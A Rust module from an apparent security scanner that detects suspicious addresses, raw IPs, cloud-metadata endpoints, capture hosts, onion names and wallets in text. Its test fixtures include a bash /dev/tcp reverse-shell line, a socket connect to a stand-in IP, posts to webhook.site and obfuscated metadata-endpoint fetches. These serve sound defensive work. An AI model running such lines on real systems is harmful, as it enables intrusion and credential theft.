//! Addresses that text names: of hosts, of folders that other machines share, of wallets.

use std::collections::HashMap;
use std::ops::Range;
use std::sync::LazyLock;

use weighbridge_domain::facts::secret::{AddressClass as Class, AddressKind as Kind};

use super::engine::Seen;
use super::wallet;

/// What stands at a text that an address begins with, or has in it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Anchor {
    /// Between a scheme and a host.
    Url,
    /// A host that stands out.
    Host,
    /// In front of the name of another machine.
    Unc,
    /// In front of a number of the internet protocol.
    Number,
    /// The beginning of a wallet.
    Wallet,
    /// A word in front of a wallet.
    WalletBehind,
    /// The ending of a name of the Tor network.
    Onion,
}

/// An address in a block of text that is not named everywhere.
#[derive(Debug, Clone)]
pub(crate) struct Hit {
    pub(crate) at: usize,
    pub(crate) kind: Kind,
    pub(crate) class: Class,
    pub(crate) value: String,
}

static HOSTS: LazyLock<HashMap<&'static str, Class>> = LazyLock::new(|| {
    let mut class = Class::Ordinary;
    let mut hosts = HashMap::new();
    for line in include_str!("../known/hosts.txt").lines().filter(|line| !line.starts_with('#')) {
        match line {
            "[capture]" => class = Class::Capture,
            "[tunnel]" => class = Class::Tunnel,
            "[dynamic]" => class = Class::Dynamic,
            "[metadata]" => class = Class::CloudMetadata,
            "[ordinary]" => class = Class::Ordinary,
            "" => {}
            host => {
                hosts.insert(host, class);
            }
        }
    }
    hosts
});

/// The texts that are looked for.
pub(super) fn anchors() -> Vec<(String, Anchor)> {
    let mut anchors: Vec<(String, Anchor)> = [
        ("://", Anchor::Url),
        (r":\/\/", Anchor::Url),
        ("%3a%2f%2f", Anchor::Url),
        ("connect((", Anchor::Number),
        ("/dev/tcp/", Anchor::Number),
        ("bc1", Anchor::Wallet),
        ("bitcoin", Anchor::WalletBehind),
        ("wallet", Anchor::WalletBehind),
        ("btc", Anchor::WalletBehind),
        (".onion", Anchor::Onion),
    ]
    .map(|(text, anchor)| (text.to_owned(), anchor))
    .to_vec();
    // Both are short and frequent: with what must follow them they are less so.
    anchors.extend("0123456789abcdef".chars().map(|digit| (format!("0x{digit}"), Anchor::Wallet)));
    let names = ('a'..='z').chain('0'..='9').chain(['\\']);
    anchors.extend(names.map(|first| (format!("\\\\{first}"), Anchor::Unc)));
    let mut hosts: Vec<_> =
        HOSTS.iter().filter(|(_, class)| **class != Class::Ordinary).map(|(host, _)| *host).collect();
    hosts.sort_unstable();
    anchors.extend(hosts.into_iter().map(|host| (host.to_owned(), Anchor::Host)));
    anchors
}

/// Looks at what stands around an anchor.
pub(super) fn look(anchor: Anchor, text: &[u8], found: Range<usize>, seen: &mut Seen) {
    let hit = match anchor {
        Anchor::Url => url(text, found),
        Anchor::Host => host(text, found),
        Anchor::Unc => share(text, found),
        Anchor::Number => number(text, found),
        Anchor::Wallet => wallet(text, found.start),
        Anchor::WalletBehind => wallet_behind(text, found.end),
        Anchor::Onion => onion(text, found),
    };
    if let Some(hit) = hit {
        seen.addresses.push(hit);
    }
}

/// Bytes of an address that are kept.
const KEPT: usize = 200;

fn is_of_host(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_') || byte >= 0x80
}

fn ends_address(byte: u8) -> bool {
    let mark =
        matches!(byte, b'"' | b'\'' | b'<' | b'>' | b'\\' | b'^' | b'`' | b'{' | b'}' | b'|' | b')' | b']');
    byte.is_ascii_whitespace() || byte.is_ascii_control() || mark
}

fn words(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes.get(..KEPT).unwrap_or(bytes)).into_owned()
}

/// Schemes of what may be on another machine.
const SCHEMES: [&[u8]; 13] = [
    b"https", b"http", b"ws", b"wss", b"ftp", b"ftps", b"sftp", b"tcp", b"gopher", b"dict", b"ssh", b"git",
    b"smb",
];

fn url(text: &[u8], found: Range<usize>) -> Option<Hit> {
    let colon = found.start + memchr::memchr2(b':', b'%', text.get(found.clone())?)?;
    let scheme_length =
        text.get(..colon)?.iter().rev().take(12).take_while(|byte| byte.is_ascii_alphabetic()).count();
    let start = colon - scheme_length;
    let scheme = text.get(start..colon)?;
    if !SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
        return None;
    }
    let rest = text.get(found.end..)?;
    let rest = rest.get(
        ..rest.iter().take(2 * KEPT).position(|byte| ends_address(*byte)).unwrap_or(rest.len().min(2 * KEPT)),
    )?;
    let end = rest
        .iter()
        .position(|byte| matches!(byte, b'/' | b'?' | b'#' | b',' | b';' | b'%'))
        .unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    let bare = authority.rsplit(|byte| *byte == b'@').next()?;
    let (host, port) = match bare.iter().rposition(|byte| *byte == b':') {
        Some(at) if !bare.ends_with(b"]") => (bare.get(..at)?, bare.get(at + 1..)?),
        _ => (bare, &b""[..]),
    };
    let (kind, class) = if scheme.eq_ignore_ascii_case(b"smb") {
        (Kind::Unc, Class::File)
    } else {
        judge(&words(host).to_ascii_lowercase(), port)?
    };
    let value = format!(
        "{}://{}{}",
        words(scheme).to_ascii_lowercase(),
        words(bare),
        words(rest.get(end..)?.split(|byte| *byte == b'?').next()?)
    );
    Some(Hit { at: start, kind, class, value })
}

/// What a host and a port in a URL are; nothing where they are none, or are named everywhere.
fn judge(host: &str, port: &[u8]) -> Option<(Kind, Class)> {
    let last = host.rsplit('.').next()?;
    if let Some(class) = class_of(host) {
        let kind = if address_number(host).is_some() { Kind::Ip } else { Kind::Url };
        (class != Class::Ordinary).then_some((kind, class))
    } else if last == "onion" {
        Some((Kind::Url, Class::Onion))
    } else if let Some(number) = address_number(host) {
        let class = if is_metadata(number) { Class::CloudMetadata } else { Class::Raw };
        (class == Class::CloudMetadata || is_public(number)).then_some((Kind::Ip, class))
    } else {
        let named = host.contains('.') && last.len() > 1 && !last.bytes().all(|byte| byte.is_ascii_digit());
        let usual = matches!(port, b"" | b"80" | b"443" | b"8080" | b"8443" | b"22" | b"21");
        let class = if usual { Class::Ordinary } else { Class::Port };
        (named && host.bytes().all(is_of_host)).then_some((Kind::Url, class))
    }
}

/// What is known of a host or of what it is below.
fn class_of(host: &str) -> Option<Class> {
    let mut rest = host.trim_start_matches('[').trim_end_matches(']');
    loop {
        if let Some(class) = HOSTS.get(rest) {
            return Some(*class);
        }
        rest = rest.split_once('.')?.1;
    }
}

/// A host that is a number, or of a service that lends names, keeps any text for anybody, or hides who it is.
pub(crate) fn stands_out(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    let known = class_of(&host).is_some_and(|class| class != Class::Ordinary);
    known || host.rsplit('.').next() == Some("onion") || address_number(&host).is_some()
}

/// A host that stands out, without a scheme in front of it.
fn host(text: &[u8], found: Range<usize>) -> Option<Hit> {
    let before = text.get(..found.start)?;
    let below = before.iter().rev().take(100).take_while(|byte| is_of_host(**byte)).count();
    let start = found.start - below;
    let own = text.get(start..found.start)?;
    let behind = text.get(found.end);
    let whole = own.is_empty() || own.ends_with(b".");
    let ended = behind.is_none_or(|next| !next.is_ascii_alphanumeric() && *next != b'-' && *next != b'_')
        && !(behind == Some(&b'.') && text.get(found.end + 1).is_some_and(u8::is_ascii_alphanumeric));
    let in_url = text.get(..start).is_some_and(|text| {
        text.ends_with(b"//")
            || text.ends_with(br"\/\/")
            || text.ends_with(b"@")
            || text.ends_with(b"%2f")
            || text.ends_with(b"%2F")
    });
    let host = words(text.get(start..found.end)?).trim_start_matches(['.', '-']).to_ascii_lowercase();
    let class = class_of(&host)?;
    let kind = if address_number(&host).is_some() { Kind::Ip } else { Kind::Host };
    (whole && ended && !in_url).then_some(Hit { at: start, kind, class, value: host })
}

/// `\\host\share`, with its backslashes once or twice.
fn share(text: &[u8], found: Range<usize>) -> Option<Hit> {
    let before = found.start.checked_sub(1).and_then(|at| text.get(at));
    if before.is_some_and(|byte| !b"\"'=( \t\n".contains(byte)) {
        return None;
    }
    let rest = text.get(found.start..text.len().min(found.start + KEPT))?;
    let slashes = rest.iter().take_while(|byte| **byte == b'\\').count();
    let each = match slashes {
        2 => 1,
        4 => 2,
        _ => return None,
    };
    let host_length =
        rest.get(slashes..)?.iter().take_while(|byte| is_of_host(**byte) || **byte == b'@').count();
    let host = rest.get(slashes..slashes + host_length)?;
    let behind = rest.get(slashes + host_length..)?;
    let between = behind.iter().take_while(|byte| **byte == b'\\').count();
    let share = behind.get(between..)?.iter().take_while(|byte| is_of_host(**byte) || **byte == b'$').count();
    let named = host.len() >= 4
        && host.contains(&b'.')
        && !host.ends_with(b".")
        && host.first()?.is_ascii_alphanumeric();
    let value = words(rest.get(..slashes + host_length + between + share)?);
    (named && between == each && share >= 2).then_some(Hit {
        at: found.start,
        kind: Kind::Unc,
        class: Class::File,
        value,
    })
}

/// A number behind what connects to one.
fn number(text: &[u8], found: Range<usize>) -> Option<Hit> {
    let rest = text.get(found.end..text.len().min(found.end + 40))?;
    let rest = rest.strip_prefix(b"\\").unwrap_or(rest);
    let rest = rest.strip_prefix(b"\"").or(rest.strip_prefix(b"'")).unwrap_or(rest);
    let length = rest.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b'.').count();
    let value = words(rest.get(..length)?);
    let number = address_number(&value).filter(|_| value.contains('.'))?;
    let class = if is_metadata(number) { Class::CloudMetadata } else { Class::Raw };
    (class == Class::CloudMetadata || is_public(number)).then_some(Hit {
        at: found.start,
        kind: Kind::Ip,
        class,
        value,
    })
}

/// The number that a host stands for, in one of the forms that programs take: four parts or fewer, in decimal, octal or
/// hexadecimal digits.
fn address_number(host: &str) -> Option<u32> {
    let mut parts = Vec::new();
    for part in host.split('.') {
        let number = match part.strip_prefix("0x") {
            Some(digits) => u32::from_str_radix(digits, 16).ok()?,
            None if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok()?,
            None if part.bytes().all(|byte| byte.is_ascii_digit()) => part.parse().ok()?,
            None => return None,
        };
        parts.push(number);
    }
    let (last, first) = parts.split_last()?;
    if first.len() > 3 || first.iter().any(|part| *part > 255) {
        return None;
    }
    let room = 32 - 8 * u32::try_from(first.len()).ok()?;
    if room < 32 && *last >> room != 0 || room == 32 && *last < 1 << 24 {
        return None;
    }
    let high = first.iter().fold(0_u32, |sum, part| sum << 8 | part);
    Some(high.checked_shl(room).unwrap_or(0) | last)
}

fn is_metadata(number: u32) -> bool {
    let [a, b, c, d] = number.to_be_bytes();
    class_of(&format!("{a}.{b}.{c}.{d}")) == Some(Class::CloudMetadata)
}

/// It is of a machine that others reach.
fn is_public(number: u32) -> bool {
    let local = matches!(
        number.to_be_bytes(),
        [0 | 10 | 127 | 224..=255, ..]
            | [192, 168, ..]
            | [172, 16..=31, ..]
            | [169, 254, ..]
            | [100, 64..=127, ..]
    );
    // Name servers that everybody asks, and numbers that are versions.
    let known = matches!(
        number.to_be_bytes(),
        [8, 8, 8 | 4, 8 | 4] | [1, 1 | 0, 1 | 0, 1] | [9, 9, 9, 9] | [1..=9, 0..=30, 0..=30, 0..=9]
    );
    !local && !known
}

fn is_of_name(byte: Option<&u8>) -> bool {
    byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
}

fn wallet(text: &[u8], start: usize) -> Option<Hit> {
    if is_of_name(start.checked_sub(1).and_then(|at| text.get(at))) {
        return None;
    }
    let rest = text.get(start..text.len().min(start + 100))?;
    let word = rest.get(..rest.iter().take_while(|byte| byte.is_ascii_alphanumeric()).count())?;
    let valid = wallet::is_bech32(word) || wallet::is_ethereum(word);
    valid.then(|| Hit { at: start, kind: Kind::Wallet, class: Class::Ordinary, value: words(word) })
}

/// Bytes behind a word about money in which a wallet may stand.
const WORD_TO_WALLET: usize = 80;

fn wallet_behind(text: &[u8], from: usize) -> Option<Hit> {
    let rest = text.get(from..text.len().min(from + WORD_TO_WALLET))?;
    let mut at = from;
    for word in rest.split(|byte| !byte.is_ascii_alphanumeric()) {
        if wallet::is_base58(word) {
            return Some(Hit { at, kind: Kind::Wallet, class: Class::Ordinary, value: words(word) });
        }
        at += word.len() + 1;
    }
    None
}

/// A name of the Tor network without a scheme: 56 characters of base 32.
fn onion(text: &[u8], found: Range<usize>) -> Option<Hit> {
    let name = text
        .get(..found.start)?
        .iter()
        .rev()
        .take(60)
        .take_while(|byte| byte.is_ascii_alphanumeric())
        .count();
    let start = found.start - name;
    let in_url = text.get(..start).is_some_and(|text| text.ends_with(b"//") || text.ends_with(b"@"));
    let whole = !is_of_name(text.get(found.end)) && matches!(name, 16 | 56);
    let value = words(text.get(start..found.end)?);
    (whole && !in_url).then_some(Hit { at: start, kind: Kind::Host, class: Class::Onion, value })
}

#[cfg(test)]
mod tests {
    use super::super::engine::{Scope, look as look_at};
    use super::*;

    fn seen(text: &str) -> Vec<(Kind, Class, String)> {
        let mut seen = Seen::default();
        look_at(text.as_bytes(), 0..text.len(), Scope::All, &mut seen);
        seen.addresses.into_iter().map(|hit| (hit.kind, hit.class, hit.value)).collect()
    }

    #[test]
    fn addresses_are_classed() {
        for (text, kind, class) in [
            ("post('http://203.0.113.5:4444/x')", Kind::Ip, Class::Raw),
            ("get('http://169.254.169.254/latest')", Kind::Ip, Class::CloudMetadata),
            ("get('http://2852039166/latest')", Kind::Ip, Class::CloudMetadata),
            ("get('http://0xa9fea9fe/latest')", Kind::Ip, Class::CloudMetadata),
            ("curl metadata.google.internal/computeMetadata", Kind::Host, Class::CloudMetadata),
            ("post('https://webhook.site/abc')", Kind::Url, Class::Capture),
            (r#""https:\/\/a.webhook.site\/abc""#, Kind::Url, Class::Capture),
            ("host = 'abc.oast.fun'", Kind::Host, Class::Capture),
            ("https://abc.ngrok-free.app/", Kind::Url, Class::Tunnel),
            ("x.duckdns.org", Kind::Host, Class::Dynamic),
            ("http://abcdefghijklmnop.onion/", Kind::Url, Class::Onion),
            ("s.connect((\"203.0.113.7\", 4444))", Kind::Ip, Class::Raw),
            ("bash -i >& /dev/tcp/203.0.113.7/4444", Kind::Ip, Class::Raw),
            (r"open('\\files.demo.internal\models')", Kind::Unc, Class::File),
            (r#""\\\\files.demo.internal\\models""#, Kind::Unc, Class::File),
            ("https://models.demo.internal:9009/a", Kind::Url, Class::Port),
            ("https://models.demo.internal/a?b=c", Kind::Url, Class::Ordinary),
            ("send BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", Kind::Wallet, Class::Ordinary),
            ("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", Kind::Wallet, Class::Ordinary),
        ] {
            let seen = seen(text);
            assert_eq!(seen.len(), 1, "{text}: {seen:?}");
            assert_eq!((seen[0].0, seen[0].1), (kind, class), "{text}: {seen:?}");
        }
    }

    #[test]
    fn what_is_named_everywhere_and_what_is_none_is_silent() {
        for text in [
            "https://huggingface.co/demo/model",
            "http://localhost:8000/v1",
            "http://127.0.0.1:9000",
            "http://192.168.0.3/",
            "version 10.2.0.4",
            "http://1.2.3.4/",
            r"r'\\d+\\w.x'",
            "0x7fffffff",
            "C:\\\\Users\\\\demo",
            "mywebhook.site.example",
            "{scheme}://{host}",
            "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5",
            "s3://bucket/key",
        ] {
            assert!(seen(text).is_empty(), "{text}: {:?}", seen(text));
        }
    }

    #[test]
    fn no_value_has_a_login_in_it() {
        assert_eq!(seen("https://demo:demo@models.demo.internal/a")[0].2, "https://models.demo.internal/a");
    }
}
